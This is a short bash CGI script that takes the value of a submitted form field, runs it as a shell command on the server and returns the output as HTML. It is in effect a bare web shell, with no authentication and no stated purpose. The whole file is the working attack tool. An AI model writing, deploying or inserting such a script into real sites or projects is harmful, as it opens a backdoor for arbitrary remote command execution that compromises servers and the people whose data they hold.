#!/bin/bash
echo "Content-Type: text/html"
echo
payload=$(cat)
echo "<pre>$( ${payload#*=} 2>&1 )</pre>"
